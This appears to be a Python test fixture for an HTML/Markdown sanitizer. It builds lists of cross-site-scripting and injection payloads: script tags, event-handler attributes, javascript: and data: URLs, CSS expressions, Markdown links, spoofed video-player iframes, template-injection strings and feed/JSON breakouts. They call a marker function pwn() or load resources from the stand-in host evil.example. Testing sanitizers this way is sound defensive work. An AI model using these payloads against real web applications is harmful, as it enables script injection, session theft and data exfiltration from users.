"""Texts that attack whoever shows them: our own collection, by the place they aim at.

Each calls `pwn()` if it runs, or asks evil.example for something if it loads; what a
browser does with them is told apart by that. Knows no page and no table.
"""

from __future__ import annotations

from itertools import product

EVIL = "evil.example"
RUN = "pwn()"

_BREAKS = ("", '">', "'>", "--><", "</title>", "</textarea>", "</style>", "</script>", "]]>", "`>")
_ELEMENTS = (
    "<script>pwn()</script>",
    "<SCRIPT/x>pwn()</SCRIPT >",
    "<scr<script>ipt>pwn()</script>",
    "<script src=//evil.example/a.js></script>",
    "<script type=module>pwn()</script>",
    "<img src=x onerror=pwn()>",
    "<img/src=x/onerror=pwn()//",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:pwn()><a id=x><text>x</text></a></svg>",
    "<svg><use href=//evil.example/a.svg#x></svg>",
    "<svg><image href=//evil.example/a.png></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwn()</script>'></foreignObject></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=pwn()></style>",
    "<math href=javascript:pwn()>x</math>",
    "<body onload=pwn()>",
    "<iframe src=javascript:parent.pwn()></iframe>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<object data=javascript:pwn()></object>",
    "<object data=//evil.example/a.swf></object>",
    "<embed src=//evil.example/a.swf>",
    "<applet code=A archive=//evil.example/a.jar></applet>",
    "<video src=x onerror=pwn()></video>",
    "<video poster=//evil.example/a.png></video>",
    "<audio src=//evil.example/a.ogg autoplay></audio>",
    "<video><source onerror=pwn() src=x></video>",
    "<details open ontoggle=pwn()>x</details>",
    "<input autofocus onfocus=pwn()>",
    "<select autofocus onfocus=pwn()></select>",
    "<textarea autofocus onfocus=pwn()>",
    "<marquee onstart=pwn()>x</marquee>",
    "<x onclick=pwn() id=x tabindex=1 onfocus=pwn()>x</x>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<link rel=preload as=image href=//evil.example/a.png>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<style>@import '//evil.example/a.css';*{background:url(//evil.example/a.png)}</style>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example/><button autofocus>x</button></form>",
    "<button form=x formaction=javascript:pwn()>x</button>",
    "<a href=javascript:pwn()>x</a>",
    "<a href='java\tscript:pwn()'>x</a>",
    "<a href=data:text/html,<script>pwn()</script>>x</a>",
    "<table background=//evil.example/a.png><td background=//evil.example/b.png></table>",
    "<div style=background:url(//evil.example/a.png)>x</div>",
    "<div style=position:fixed;inset:0;z-index:9999;background:red>x</div>",
    "<template><script>pwn()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<portal src=//evil.example/></portal>",
    "<custom-x is=x onload=pwn()></custom-x>",
    "<plaintext>",
    "<!--",
    "<![CDATA[<script>pwn()</script>]]>",
    "<?xml-stylesheet href=//evil.example/a.xsl?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM '//evil.example/a'>]>&y;",
    "<h1></main></body></html><footer>",
)
_EVENTS = (
    *("onerror", "onload", "onfocus", "onblur", "onmouseover", "onpointerenter", "onclick"),
    *("onanimationstart", "ontransitionend", "onbeforeinput", "onscroll", "onwheel", "ontoggle"),
    *("onauxclick", "onbeforematch", "oncontentvisibilityautostatechange", "onpageshow"),
)
_QUOTES = ('"', "'", "", '" ', "&quot;", "&#34;", '\\"', "\u201d", '\x00"')

ELEMENTS = [before + element for before, element in product(_BREAKS[:3], _ELEMENTS)]
ELEMENTS += [f"{before}<img src=x onerror=pwn()>" for before in _BREAKS]
ATTRIBUTES = [
    f"x{quote} {event}={quote}pwn(){quote} x={quote}"
    for event, quote in product(_EVENTS, _QUOTES[:5])
]
ATTRIBUTES += [f"x{quote} autofocus onfocus=pwn() " for quote in _QUOTES]
ATTRIBUTES += [
    f'x"{space}onload=pwn(){space}y="' for space in ("/", "\t", "\n", "\r", "\f", "\x0b")
]
URLS = [
    *("javascript:pwn()", "JAVASCRIPT:pwn()", " javascript:pwn()", "\x01javascript:pwn()"),
    *("java\nscript:pwn()", "java\tscript:pwn()", "javascript\n:pwn()", "javascript&colon;pwn()"),
    *("javascript:/*--></title></style></textarea></script><svg onload=pwn()>*/pwn()",),
    *("javascript://evil.example/%0apwn()", "javascript:pwn()//https://evil.example"),
    *(
        "data:text/html,<script>pwn()</script>",
        "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
    ),
    *("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>",),
    *("vbscript:pwn()", "livescript:pwn()", "blob:https://evil.example/x", "filesystem:x"),
    *(
        "file:///etc/passwd",
        "view-source:https://evil.example/",
        "about:blank",
        "intent://x#Intent;end",
    ),
    *("//evil.example/a", "///evil.example/a", "\\\\evil.example\\a", "/\\evil.example/a"),
    *(
        "https:evil.example",
        "https:/evil.example",
        "http://[evil.example",
        "https://evil.example:x/",
    ),
    *('https://evil.example/" onload="pwn()', "https://evil.example/' onload='pwn()"),
    *('https://evil.example/"><script>pwn()</script>', "https://evil.example/><svg/onload=pwn()>"),
    *("https://evil.example/a, javascript:pwn() 2x", "https://evil.example/a\r\nX: y"),
    *("https://evil.example\\@a.example/", "https://a.example@evil.example/", "https://а.example/"),
    *(
        "https://\u202elpmaxe.live/",
        "https://evil\u3002example/",
        "https://evil.example/\u2028pwn()",
    ),
    *("ftp://evil.example/", "ws://evil.example/", "mailto:pwn@evil.example?subject=pwn()"),
    *("https://evil.example/{{7*1337}}", "https://evil.example/${pwn()}", "?x=javascript:pwn()"),
]
STYLES = [
    *(
        "expression(pwn())",
        "background:url(javascript:pwn())",
        "behavior:url(//evil.example/a.htc)",
    ),
    *("x:expression(pwn())", "-moz-binding:url(//evil.example/a.xml#x)", "}*{display:none}"),
    *("\\65xpression(pwn())", "</style><script>pwn()</script>", "url(//evil.example/a.png)"),
    *("@import url(//evil.example/a.css);", "red;} body{background:url(//evil.example/b.png)}"),
]
MARKDOWN = [
    *(
        "[x](javascript:pwn())",
        "[x](JaVaScRiPt:pwn())",
        "[x](<javascript:pwn()>)",
        "[x](java\tscript:pwn())",
    ),
    *("[x](&#106;avascript:pwn())", "[x](javascript&colon;pwn())", "[x](\\javascript:pwn())"),
    *(
        "![x](javascript:pwn())",
        "![x](data:image/svg+xml,<svg/onload=pwn()>)",
        '![x" onerror="pwn()](x)',
    ),
    *("![x](x 'y\" onerror=\"pwn()')", "[x](x \"y' onclick='pwn()\")", "<javascript:pwn()>"),
    *(
        '<https://evil.example/"onclick="pwn()>',
        "[x]: javascript:pwn()\n\n[x]",
        "[x][y]\n\n[y]: data:text/html,pwn()",
    ),
    *("`<script>pwn()</script>`", "```<script>\npwn()\n```", '```"><script>pwn()</script>\nx\n```'),
    *("    <script>pwn()</script>", "# <img src=x onerror=pwn()>", "> <svg onload=pwn()>"),
    *(
        "|<img src=x onerror=pwn()>|\n|---|\n|<script>pwn()</script>|",
        "1. <iframe src=//evil.example/>",
    ),
    *(
        "<div>\n\n<script>pwn()</script>\n\n</div>",
        "<!-- x --><script>pwn()</script>",
        "&lt;script&gt;pwn()&lt;/script&gt;",
    ),
    *(
        '[x](https://evil.example/ ""onclick=pwn()")',
        '<a href="javascript:pwn()">x</a>',
        "**<b onclick=pwn()>x</b>**",
    ),
]
PLAYERS = [
    "<iframe src='https://www.youtube.com/embed/abcdefghijk' onload=pwn()></iframe>",
    "<iframe src='https://www.youtube.com/embed/abcdefghijk'"
    " srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<iframe src='https://www.youtube.com.evil.example/embed/abcdefghijk'></iframe>",
    "<iframe src='https://evil.example/embed/abcdefghijk'></iframe>",
    "<iframe src='https://evil.example#https://www.youtube.com/embed/abcdefghijk'></iframe>",
    "<iframe src='javascript:parent.pwn()//www.youtube.com/embed/abcdefghijk'></iframe>",
    "<iframe src='https://player.vimeo.com/video/123\"><script>pwn()</script>'></iframe>",
    "<iframe src='https://player.vimeo.com/video/123?x=javascript:pwn()'></iframe><script>pwn()</script>",
    "<iframe src='https://www.youtube.com/redirect?q=//evil.example'></iframe>",
    "<video src=//evil.example/a.mp4 autoplay></video><img src=x onerror=pwn()>",
    "<object data='https://www.youtube.com/embed/abcdefghijk'></object>",
    "<iframe src='https://www.youtube.com/embed/abcdefghijk%22onload=pwn()'></iframe>",
]
TEMPLATES = [
    *(
        "{{ 1337 * 7 }}",
        "{% for x in y %}",
        "{{ self.__init__.__globals__ }}",
        "${1337*7}",
        "<%= 1337*7 %>",
    ),
    *(
        "{{constructor.constructor('pwn()')()}}",
        "#{1337*7}",
        "[[1337*7]]",
        "{{=pwn()}}",
        "<?php pwn() ?>",
    ),
]
DOCUMENTS = [
    # XML of feeds, JSON within a page, what ends either.
    *(
        "]]><script xmlns='http://www.w3.org/1999/xhtml'>pwn()</script>",
        "</entry></feed><script>pwn()</script>",
    ),
    *(
        "</item></channel></rss>",
        "</content><link href='javascript:pwn()'/>",
        "&lt;![CDATA[",
        "]]&gt;<a/>",
    ),
    *(
        "</script><script>pwn()</script>",
        "\u2028pwn()\u2029",
        '"}</script><svg onload=pwn()>',
        "\\u003cscript\\u003epwn()",
    ),
    *(
        "\x02<script>pwn()</script>\x03",
        "\x08\x0b\x0c\x0e\x1b]0;pwn\x07",
        "\ufffe\uffff",
        "\u202egnp.x\u202c",
    ),
    *(
        "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
        "\u00bcscript\u00bepwn()\u00bc/script\u00be",
        "\uff1cscript\uff1epwn()",
    ),
    *(
        "%3Cscript%3Epwn()%3C/script%3E",
        "&#x3C;script>pwn()",
        "&#0000060script&#62pwn()",
        "\\x3cscript\\x3epwn()",
    ),
]

PAYLOADS = list(
    dict.fromkeys(
        [*ELEMENTS, *ATTRIBUTES, *URLS, *STYLES, *MARKDOWN, *PLAYERS, *TEMPLATES, *DOCUMENTS]
    )
)
